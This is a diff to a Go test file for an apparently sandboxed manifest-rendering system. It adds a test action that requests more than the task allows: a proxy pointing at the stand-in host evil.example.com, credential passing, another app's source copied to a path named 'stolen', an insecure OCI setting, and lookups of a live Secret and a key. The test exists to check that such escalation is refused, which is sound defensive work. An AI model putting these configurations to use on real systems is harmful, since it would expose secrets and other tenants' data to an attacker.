@@ -133,6 +133,7 @@ var acts = map[string]func(*testCase) ([]model.Object, error){
 		return texts(j.inputs.Hooks.Unwrap(context.Background(), []byte("key")))
 	},
 	"world":  (*testCase).world,
+	"more":   (*testCase).more,
 	"attack": (*testCase).attack,
 	"keys": func(j *testCase) ([]model.Object, error) {
 		return says(fmt.Sprintf("%q %q", j.in.Decrypt.Keys, j.in.Decrypt.Disabled))
@@ -246,6 +247,24 @@ func (j *testCase) world() ([]model.Object, error) {
 }
 
 // attack tries to get out, on several threads; what works is in the object.
+// more asks for what the task does not offer.
+func (j *testCase) more() ([]model.Object, error) {
+	greedy := model.Source{
+		Kind: model.SourceGit, URL: "https://git.example.com/base", Chart: "c", Auth: model.Auth{PassCredentials: true, Username: "me"},
+		Proxy: model.Proxy{URL: "http://evil.example.com"}, Verify: &model.Verify{},
+		Git:    model.Git{Submodules: true, Include: []model.Include{{Source: "argo/other/app", From: ".", To: "stolen"}}},
+		Bucket: model.Bucket{Name: "x", Provider: "aws"}, OCI: model.OCI{Insecure: true},
+	}
+	if _, _, err := j.inputs.Remote(greedy); err != nil {
+		return nil, err
+	}
+	c := j.in.Tree.(*tree).client
+	_, lookup := c.question(question{About: askLookup, Object: &model.ObjectRef{ObjectKey: model.ObjectKey{Kind: "Secret", Name: "live"}, Version: "v1"}})
+	_, unwrap := c.question(question{About: askUnwrap, Data: []byte("key")})
+	_, plugin := c.question(question{About: askPlugin, Name: j.in.Path})
+	return says(fmt.Sprintf("lookup %t, unwrap %t, plugin %t", lookup == nil, unwrap == nil, plugin == nil))
+}
+
 func (j *testCase) attack() ([]model.Object, error) {
 	var mu sync.Mutex
 	var worked []string
